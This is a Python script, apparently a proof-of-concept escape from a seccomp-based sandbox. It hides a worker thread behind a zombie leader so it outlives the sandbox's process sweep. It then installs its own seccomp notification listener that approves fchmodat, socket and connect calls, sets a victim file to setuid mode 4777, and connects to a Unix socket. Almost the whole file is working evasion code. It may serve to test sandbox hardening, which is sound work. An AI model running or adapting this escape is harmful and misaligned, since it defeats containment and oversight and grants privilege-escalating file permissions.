# SURVIVOR LOG VICTIM SOCK [stay|direct]: outlive sbx's sweep, then take
# a seccomp listener of our own and CONTINUE what sbx's filter refuses.
import ctypes, os, socket, struct, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
NR_seccomp, NR_exit = (317, 60) if x86 else (277, 93)
NR_chmod_like = (268,) if x86 else (53,)          # fchmodat
NR_socket = 41 if x86 else 198
NR_connect = 42 if x86 else 203
log, victim, sock, mode = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
def note(s):
    with open(log, "a") as f:
        f.write(s + "\n")
def filt():
    # ld nr; jeq each -> USER_NOTIF; else ALLOW
    nrs = list(NR_chmod_like) + [NR_socket, NR_connect] + ([90] if x86 else [])
    ins = [struct.pack("HBBI", 0x20, 0, 0, 0)]
    for i, n in enumerate(nrs):
        ins.append(struct.pack("HBBI", 0x15, len(nrs) - i, 0, n))
    ins.append(struct.pack("HBBI", 0x06, 0, 0, 0x7fff0000))
    ins.append(struct.pack("HBBI", 0x06, 0, 0, 0x7fc00000))
    code = ctypes.create_string_buffer(b"".join(ins))
    prog = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", len(ins), ctypes.addressof(code)))
    return code, prog
def answer(lfd):
    n = ctypes.create_string_buffer(80)
    while True:
        ctypes.memset(n, 0, 80)
        if libc.ioctl(lfd, ctypes.c_ulong(0xc0502100), n) < 0:
            continue
        nid = struct.unpack_from("Q", n.raw, 0)[0]
        r = ctypes.create_string_buffer(struct.pack("QqiI", nid, 0, 0, 1))
        libc.ioctl(lfd, ctypes.c_ulong(0xc0182101), r)
def worker():
    libc.prctl(38, 1, 0, 0, 0)
    code, prog = filt()
    time.sleep(0.02)                 # the leader's exit first
    note("pid %d" % os.getpid())
    end = time.time() + 8
    while True:
        lfd = libc.syscall(NR_seccomp, 1, 8, prog)
        if lfd >= 0 or time.time() > end:
            break
        time.sleep(0.01)
    if lfd < 0:
        note("listener refused: %s" % os.strerror(ctypes.get_errno()))
        os._exit(0)
    note("listener ok")
    threading.Thread(target=answer, args=(lfd,), daemon=True).start()
    try:
        os.chmod(victim, 0o4777)
        note("chmod ok")
    except OSError as e:
        note("chmod " + e.strerror)
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(sock)
        note("unix " + s.recv(4).decode())
    except OSError as e:
        note("unix " + e.strerror)
    time.sleep(3 if mode == "stay" else 0)
    os._exit(0)
if mode == "direct":
    worker()
if os.fork():
    for i in range(300):             # the command exits once the child reads Z
        if os.path.exists(log) and "pid" in open(log).read():
            break
        time.sleep(0.01)
    time.sleep(0.05)
    os._exit(0)
os.setsid()
fd = os.open(os.devnull, os.O_RDWR)
for i in (0, 1, 2):
    os.dup2(fd, i)
threading.Thread(target=worker).start()
libc.syscall(NR_exit, 0)             # the leader thread only: its stat reads Z
